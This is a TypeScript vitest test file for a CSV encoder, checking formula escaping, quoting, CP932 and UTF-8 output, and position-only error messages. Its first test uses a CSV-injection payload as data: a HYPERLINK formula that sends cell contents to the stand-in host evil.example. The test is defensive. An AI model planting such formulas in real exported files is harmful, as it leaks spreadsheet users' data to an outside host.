import { describe, expect, it } from 'vitest';
import { ConnectorKitError } from './connector-kit-error';
import { encodeCp932 } from './encode-cp932';
import { encodeCsv, quoteCsvField } from './encode-csv';

const sjisDecode = (bytes: Uint8Array) =>
  new TextDecoder('shift_jis', { fatal: true }).decode(bytes);

describe('encodeCsv', () => {
  it('writes formula-looking cells as text for spreadsheets when asked (CSV injection)', () => {
    const rows = [
      ['=HYPERLINK("https://evil.example/?d="&C2,"詳細")', '+1+2', '-3', '@SUM(A1)', '\tx', 'ok'],
    ];
    const text = (textOnly: boolean) =>
      new TextDecoder().decode(encodeCsv(rows, { encoding: 'utf-8', newline: '\n', textOnly }));
    expect(text(true)).toBe(
      `"'=HYPERLINK(""https://evil.example/?d=""&C2,""詳細"")",'+1+2,-3,'@SUM(A1),'\tx,ok\n`,
    );
    // Source files keep their cells exactly (a connector reads what the office wrote).
    expect(text(false)).toBe(
      '"=HYPERLINK(""https://evil.example/?d=""&C2,""詳細"")",+1+2,-3,@SUM(A1),\tx,ok\n',
    );
  });

  it('quotes only fields holding a quote, comma or line break', () => {
    expect(quoteCsvField('plain text')).toBe('plain text');
    expect(quoteCsvField('a,b')).toBe('"a,b"');
    expect(quoteCsvField('say "hi"')).toBe('"say ""hi"""');
    expect(quoteCsvField('two\nlines')).toBe('"two\nlines"');
  });

  it('writes CP932 with CRLF by default, readable by a strict Shift_JIS decoder', () => {
    const bytes = encodeCsv(
      [
        ['氏名', 'カナ'],
        ['髙橋 﨑', 'ﾀｶﾊｼ'],
      ],
      { encoding: 'cp932' },
    );
    expect(sjisDecode(bytes)).toBe('氏名,カナ\r\n髙橋 﨑,ﾀｶﾊｼ\r\n');
    expect(() => new TextDecoder('utf-8', { fatal: true }).decode(bytes)).toThrow();
  });

  it('writes private-use 外字 to the CP932 EUDC area', () => {
    expect([...encodeCp932('\ue000\ue757')]).toEqual([0xf0, 0x40, 0xf9, 0xfc]);
    expect(sjisDecode(encodeCp932('\ue0bc'))).toBe('\ue0bc');
  });

  it('writes UTF-8 with and without BOM and LF on request', () => {
    const plain = encodeCsv([['a', '髙']], { encoding: 'utf-8', newline: '\n' });
    expect(new TextDecoder().decode(plain)).toBe('a,髙\n');
    const bom = encodeCsv([['a']], { encoding: 'utf-8-bom' });
    expect([...bom]).toEqual([0xef, 0xbb, 0xbf, 0x61, 0x0d, 0x0a]);
  });

  it('throws not_encodable with the position, never the text, for characters CP932 lacks', () => {
    const rows = [
      ['ok', 'ok'],
      ['ok', '𠮷野家'],
    ];
    try {
      encodeCsv(rows, { encoding: 'cp932' });
      expect.unreachable();
    } catch (error) {
      expect(error).toBeInstanceOf(ConnectorKitError);
      expect((error as ConnectorKitError).code).toBe('not_encodable');
      expect((error as Error).message).toContain('row 2 column 2');
      expect((error as Error).message).not.toContain('野家');
    }
    expect(() => encodeCp932('〜')).toThrow(ConnectorKitError);
  });
});
